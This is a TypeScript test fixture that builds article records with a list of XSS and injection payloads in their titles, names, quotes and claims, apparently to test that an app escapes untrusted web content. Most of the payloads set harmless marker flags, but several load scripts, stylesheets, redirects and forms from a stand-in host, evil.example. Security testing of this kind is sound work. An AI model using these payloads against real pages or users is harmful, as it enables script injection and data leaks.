import { type ArticleReading } from '../../src/domain/reading.ts';
import { sha256, stableId } from '../../src/lib/stable-id.ts';
import { aReading } from './generated-readings.ts';

/** What a page of the web can put into titles, names and texts in the hope that some page shows it as its own. */
const PAYLOADS = [
  '<script>window.hacked = true</script>',
  '<img src=x onerror="window.hacked = true">',
  '<svg onload="window.hacked = true">',
  '"><script src="https://evil.example/x.js"></script>',
  "' onmouseover='window.hacked = true",
  '" onfocus="window.hacked = true" autofocus="',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '<a href="javascript:window.hacked = true">read on</a>',
  'javascript:window.hacked = true',
  '</title><script>window.hacked = true</script>',
  '</textarea><script>window.hacked = true</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Go on</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<math><mi xlink:href="data:x,<script>window.hacked = true</script>">',
  '{{constructor.constructor("window.hacked = true")()}}',
  '${window.hacked = true}',
  '<!--<script>window.hacked = true</script>-->',
  '\u202e<script>window.hacked = true</script>',
  '<x style="background:url(https://evil.example/x.png)">',
  '__proto__',
  '=HYPERLINK("https://evil.example/")',
] as const;

/** Readings of so many articles whose titles, outlets, people, sources, statements and texts all carry such words. */
export function hostileReadings(
  count: number,
  payloads: readonly string[] = PAYLOADS,
): readonly ArticleReading[] {
  return Array.from({ length: count }, (_, at) =>
    hostile(aReading(at), payloads[at % payloads.length] ?? ''),
  );
}

function hostile(generated: ArticleReading, payload: string): ArticleReading {
  const reading = withText(generated, `${generated.article.text}\n${payload}`);
  const { article, entities, unnamedSources, claims, assertions } = reading;
  return {
    ...reading,
    article: { ...article, title: `${payload} ${article.key}` },
    entities: entities.map((entity) => ({ ...entity, name: `${payload} ${entity.name}` })),
    unnamedSources: unnamedSources.map((source) => ({
      ...source,
      words: `${payload} ${source.words}`,
    })),
    claims: claims.map((claim) => ({ ...claim, statement: `${payload} ${claim.statement}` })),
    assertions: assertions.map((assertion) => ({ ...assertion, quantityText: payload })),
  };
}

/** A reading of another text, by whose hash it and its version are known. */
function withText(reading: ArticleReading, text: string): ArticleReading {
  const { id, textHash, versionId } = reading.article;
  const hash = sha256(text);
  const known = JSON.stringify(reading)
    .replaceAll(versionId, stableId('version', id, hash))
    .replaceAll(textHash, hash);
  const renamed = JSON.parse(known) as ArticleReading;
  return { ...renamed, article: { ...renamed.article, text } };
}
